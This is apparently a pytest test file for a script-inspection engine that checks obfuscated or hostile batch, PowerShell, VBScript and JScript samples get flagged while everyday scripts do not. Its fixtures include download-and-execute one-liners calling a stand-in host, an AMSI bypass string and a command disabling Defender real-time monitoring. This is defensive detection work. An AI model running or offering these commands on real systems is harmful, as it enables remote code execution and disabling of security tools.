import base64
import struct
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from sample_analysis.engines.inspection import Inspection, run
from sample_analysis.engines.programs import clear_text, literals, scripts

Examine = Callable[..., Any]


PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".ljust(200, b"\1")
RUNS = "new ActiveXObject('WScript.Shell').Run('calc')"
PROGRAM = b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + b"PE\0\0\x4c\x01".ljust(120, b"\0")
PROGRAM_AS_TEXT = base64.b64encode(PROGRAM).decode()


def rules(report: Any) -> set[str]:
    return {reason.rule for file in report.parsed.files for reason in file.reasons}


def test_an_encoded_command_is_decoded_and_what_it_says_is_analysed(examine: Examine) -> None:
    command = "$a = (New-Object Net.WebClient).DownloadString('https://bad.example/a'); Invoke-Expression $a"
    encoded = base64.b64encode(command.encode("utf-16-le")).decode()
    report = examine(f"@echo off\r\npowershell -NoP -w hidden -enc {encoded}\r\n".encode(), "a.bat")
    assert "encoded-command" in rules(report)
    assert "powershell_download_and_run" in report.rules("decoded command 1")
    assert [url.url for url in report.parsed.urls] == ["https://bad.example/a"]
    assert report.root.verdict == "suspicious"


def test_data_that_a_script_decodes_is_a_child(examine: Examine, eicar: bytes) -> None:
    text = f"$b = [Convert]::FromBase64String('{base64.b64encode(eicar).decode()}')\nSet-Content -Path a -Value $b\n"
    assert examine(text.encode(), "a.ps1").root.verdict == "malicious"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.bat", "@echo off\r\n" + "c^a^l^c ^&^& p^o^w^e^r^s^h^e^l^l\r\n" * 3),
        ("a.cmd", "@echo off\r\nset a=abcdefgh\r\n" + "%a:~1,1%" * 20),
        ("a.ps1", "param($x)\n" + "i`e`x " * 10 + "Get-Item\n"),
        ("a.ps1", "&('{1}{0}{2}{3}' -f 'e','i','x','') ; ('{1}{0}{2}' -f 'e','i','x')\nSet-Item a\n"),
        ("a.vbs", "Dim a\nExecute(" + " & ".join(f"Chr({n})" for n in range(60, 100)) + ")\n"),
        ("a.vbe", "#@~^AAAAAA==abc"),
        (
            "a.js",
            "var s = new ActiveXObject('x');\nrun('mshta.exe https://bad.example/a')",
        ),
        ("a.ps1", "&($x) ((New-Object Net.WebClient).('Down'+'loadString').Invoke('http://bad.example/x'))"),
        ("a.ps1", "iwr http://bad.example/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe"),
        ("a.ps1", "irm http://bad.example/x | iex"),
        ("a.ps1", "[Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils')"),
        ("a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true"),
        ("a.ps1", "#!/bin/sh\nSet-MpPreference -DisableRealtimeMonitoring $true"),
        ("a.bat", '@echo off\r\nset x=power\r\nset y=shell\r\n%x%%y% -nop -c "iwr http://bad.example/a -o a.bin"\r\n'),
        ("a.bat", "@echo off\r\ncurl -s -o %temp%\\a.exe http://bad.example/a.exe && start %temp%\\a.exe\r\n"),
        ("a.js", "var a='W'+'Scr'+'ipt.S'+'hell';var b=new ActiveXObject(a);b['R'+'un']('cmd /c calc');"),
        ("a.js", "var a=['\\x57\\x53\\x63ript.Shell'];new ActiveXObject(a[0]).Run('calc');"),
        ("a.js", f"eval(String.fromCharCode({','.join(str(ord(one)) for one in RUNS)}))"),
        ("a.vbs", 'Set o=CreateObject(StrReverse("llehS.tpircSW")):o.Run "calc"'),
        ("a.vbs", 'GetObject("script:http://bad.example/a.sct")'),
        ("a.hta", f"<script language=vbscript>{RUNS}</script>"),
        ("a.sct", f"<scriptlet><registration/><script language='JScript'>{RUNS}</script></scriptlet>"),
        ("a.xsl", f"<stylesheet><ms:script language='JScript'>{RUNS}</ms:script></stylesheet>"),
        ("a.js", f"var a='{PROGRAM_AS_TEXT}';"),
        (
            "a.bat",
            f"@echo off\r\nrem\r\n-----BEGIN CERTIFICATE-----\r\n{PROGRAM_AS_TEXT}\r\n-----END CERTIFICATE-----\r\n",
        ),
        ("a.ps1", f"[Byte[]]$a = @({','.join(str(one) for one in PROGRAM)})\nSet-Content -Path a -Value $a\n"),
    ],
)
def test_hidden_or_hostile_commands_are_suspicious(examine: Examine, name: str, text: str) -> None:
    assert examine(text.encode(), name).root.verdict == "suspicious"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("build.bat", "@echo off\r\nset PATH=%PATH%;C:\\Tools\r\nif not exist out mkdir out\r\ncopy a.txt out\r\n"),
        ("deploy.ps1", "param($Name)\nImport-Module Tools\nGet-ChildItem -Path . | ForEach-Object { $_.Name }\n"),
        ("site.js", "function add(a, b) {\n  return a + b;\n}\nconst url = 'https://good.example/';\n"),
        (
            "logon.vbs",
            'Option Explicit\nDim net\nSet net = CreateObject("WScript.Network")\nnet.MapNetworkDrive "H:"\n',
        ),
        (
            "install.vbs",
            'Set shell = CreateObject("WScript.Shell")\nshell.Run "setup.exe /quiet" & " " & "/norestart", 1, True\n',
        ),
        (
            "fetch.bat",
            '@echo off\r\npowershell -Command "Invoke-WebRequest https://good.example/a.zip -OutFile a"\r\n',
        ),
        ("old.js", "var x = window.XMLHttpRequest ? 1 : new ActiveXObject('Microsoft.XMLHTTP');\nvar a = 'x' + 'y';\n"),
        ("logo.js", f"var a = 'data:image/png;base64,{base64.b64encode(PNG).decode()}';\nfunction f() {{}}\n"),
        ("game.bat", '@echo off\r\nset GAME=game.exe\r\nset ARGS=-windowed\r\nstart "" %GAME% %ARGS%\r\n'),
        ("jre.bat", '@echo off\r\nstart "" /D "%~dp0" %COMSPEC% /c "java.cmd -jar game.jar"\r\n'),
        ("log.bat", "@echo off\r\n" + "set A=%DATE:~6,4%%date:~3,2%-%time:~0,2%\r\n" * 6),
        ("get.bat", "@echo off\r\nset OUT=tool.zip\r\ncurl -L https://good.example/latest -o %OUT%\r\n"),
        ("remove.bat", '@echo off\r\nset K=HKLM\\SOFTWARE\\x\\CurrentVersion\r\nreg delete "%K%\\Run" /v Tool /f\r\n'),
        (
            "backup.vbs",
            'Set a = CreateObject("WScript.Shell")\nc = "schtasks /tn Backup /tr b.bat " & _\n  "/create /sc daily"\n',
        ),
        ("get.js", 'function f() {}\nconst c = "curl -fsSL https://good.example/latest/" +\n  "tool.zip";\n'),
        ("sums.js", f"var a = '{base64.b64encode(bytes.fromhex('60ea') + b'1' * 62).decode()}';\nfunction f() {{}}\n"),
        ("run.sh", "#!/bin/sh\nset -e\nmake -e test\ncurl -e https://good.example/ https://good.example/file\n"),
    ],
)
def test_everyday_scripts_are_not_suspicious(examine: Examine, name: str, text: str) -> None:
    assert examine(text.encode(), name).root.verdict == "unknown"


@pytest.mark.parametrize(
    "text",
    [
        "powershell -e " * 100_000,
        "a^" * 1_000_000,
        "{0}" * 500_000,
        "-e " + "A" * 3_000_000,
        "%a:~" * 500_000,
        "\n" * 2_000_000,
        "'{0}{1}'-f'a'," * 10_000,
        "set a=%a%%a%%a%\n" * 10_000,
        "set a=" + "b" * 1000 + "\n" + "%a%" * 50_000,
        ("A" * 60 + "\n") * 30_000,
        "[1," * 50_000,
        "curl http://a " * 10_000,
    ],
)
def test_hostile_scripts_end(inspection: Callable[..., Inspection], text: str) -> None:
    looked = inspection(text.encode(), "a.ps1")
    started = time.process_time()
    run(looked, scripts.inspect)
    assert time.process_time() - started < 30
    # Stopped by the clock it would have ended too, whatever its cost.
    assert not {"damaged", "parser-time"} & {limit.limit for limit in looked.node.limits}


@pytest.mark.parametrize(
    "text",
    [
        '"' + "{0}" * 40 + '" -f "' + "A" * 200 + '","x"\n',
        "chr(65) ",
        "'+'",
        "set a=" + "b" * 1000 + "\n" + "%a%" * 1000,
    ],
)
def test_a_text_made_clear_is_little_longer(text: str) -> None:
    text *= 400_000 // len(text)
    assert len(clear_text.clear(text)) <= len(text) * 1.1 + clear_text.GROWS_BY


def test_a_long_list_of_numbers_takes_little_memory() -> None:
    text = "(" + "1," * 250_000
    tracemalloc.start()
    try:
        assert list(literals.files(text)) == []
        assert tracemalloc.get_traced_memory()[1] < 10 * len(text)
    finally:
        tracemalloc.stop()


def test_what_is_put_together_is_read_and_told(examine: Examine) -> None:
    text = "$r='ex'+'e.x/elpmaxe.dab//:ptth';$u=-join($r[-1..-99]);$w.'Download`Data'($u)"
    report = examine(text.encode(), "a.ps1")
    assert "hidden-commands" in rules(report)
    assert [url.url for url in report.parsed.urls] == ["http://bad.example/x.exe"]


def test_the_scripts_of_the_corpora_are_ordinary(corpora: Path, examine: Examine) -> None:
    for name in ("test.bat", "test.js", "test.iqy", "test.jnlp"):
        assert examine((corpora / "files-strelka" / name).read_bytes(), name).root.verdict == "unknown"
    assert examine((corpora / "archive-mitra/php/php.php").read_bytes(), "php.php").root.verdict == "unknown"
